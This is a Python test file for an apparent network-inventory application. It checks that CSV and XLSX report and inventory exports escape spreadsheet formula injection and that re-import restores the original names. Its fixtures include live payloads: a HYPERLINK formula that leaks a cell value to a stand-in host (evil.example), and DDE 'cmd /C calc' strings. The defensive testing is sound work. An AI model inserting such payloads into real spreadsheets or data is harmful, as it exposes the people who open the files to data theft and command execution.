"""Formula injection: names that start like a spreadsheet formula leave every export as text, never a formula."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from netmgr.models import Agency, Device, Site, Uplink
from netmgr.models.enums import Role
from netmgr.security.formulas import csv_text, restore_csv_text
from tests.netmgr.api.conftest import World
from tests.netmgr.api.test_finance_api import _plan
from tests.netmgr.web.helpers import login

API = "/api/v1"
HOSTILE = {
    "agency": '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
    "site": "+62-cmd|' /C calc'!A0",
    "device": "-2+3+cmd|' /C calc'!A0",
    "uplink": "@SUM(1+1)*cmd|' /C calc'!A0",
    "isp": "\t=1+1",
    "other_agency": "\r=1+1",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _hostile_world(session: Session, world: World) -> None:
    for model, row_id, name in ((Agency, world.own_agency, HOSTILE["agency"]),
                                (Agency, world.other_agency, HOSTILE["other_agency"]),
                                (Site, world.own_site, HOSTILE["site"]),
                                (Device, world.own_device, HOSTILE["device"])):
        row = session.get(model, row_id)
        assert row is not None
        row.name = name  # type: ignore[attr-defined]
    uplink = session.get(Uplink, world.uplink)
    assert uplink is not None
    uplink.name, uplink.isp_name = HOSTILE["uplink"], HOSTILE["isp"]
    session.commit()


def _csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]


def _assert_csv_safe(content: bytes, expected: list[str]) -> None:
    cells = _csv_cells(content)
    armed = [c for c in cells if c.startswith(TRIGGERS)]
    assert not armed, armed
    for name in expected:
        assert "'" + name in cells, (name, cells)


def _assert_xlsx_safe(content: bytes, expected: list[str]) -> None:
    book = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(TRIGGERS):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
    for name in expected:  # XML turns a stored CR into LF
        assert name.replace("\r", "\n") in texts, (name, texts)


def test_csv_text_prefixes_formula_triggers_and_the_import_undoes_it_exactly() -> None:
    for text in [*HOSTILE.values(), "'=quoted", "''-twice", "plain", "'plain", "", "Dinas - Sampit"]:
        escaped = csv_text(text)
        assert not str(escaped).startswith(TRIGGERS)
        assert restore_csv_text(escaped) == text
    assert csv_text(-2.53) == -2.53 and csv_text(-7) == -7  # numbers stay numbers


@pytest.mark.parametrize("route", ["api", "web"])
def test_report_csv_and_xlsx_keep_formula_like_names_as_text(client: TestClient, session: Session, world: World,
                                                            route: str) -> None:
    _hostile_world(session, world)
    _plan(session, world)
    names = [HOSTILE["agency"], HOSTILE["other_agency"], HOSTILE["uplink"], HOSTILE["isp"]]
    if route == "api":
        base, headers = f"{API}/reports", world.headers(Role.FINANCE)
    else:
        assert login(client, world.usernames[Role.FINANCE]).status_code == 303
        base, headers = "/reports", {}
    response = client.get(f"{base}/monthly.csv", params={"month": "2025-02"}, headers=headers)
    assert response.status_code == 200, response.text
    _assert_csv_safe(response.content, names)
    response = client.get(f"{base}/monthly.xlsx", params={"month": "2025-02"}, headers=headers)
    assert response.status_code == 200, response.text
    _assert_xlsx_safe(response.content, names)


@pytest.mark.parametrize(("kind", "names"), [
    ("agencies", [HOSTILE["agency"], HOSTILE["other_agency"]]),
    ("sites", [HOSTILE["site"]]),
    ("devices", [HOSTILE["device"], HOSTILE["site"]]),
    ("uplinks", [HOSTILE["uplink"], HOSTILE["isp"]]),
])
def test_inventory_csv_export_keeps_formula_like_names_as_text_and_reads_back(
    client: TestClient, session: Session, world: World, kind: str, names: list[str]
) -> None:
    _hostile_world(session, world)
    headers = world.headers(Role.ADMIN)
    response = client.get(f"{API}/inventory/export/{kind}", params={"format": "csv"}, headers=headers)
    assert response.status_code == 200, response.text
    _assert_csv_safe(response.content, names)

    again = client.post(f"{API}/inventory/import/{kind}", params={"dry_run": "true"}, headers=headers,
                        files={"file": (f"{kind}.csv", response.content, "text/csv")})
    assert again.status_code == 200, again.text
    assert again.json()["created"] == 0, again.text  # every row matched its own, unchanged name
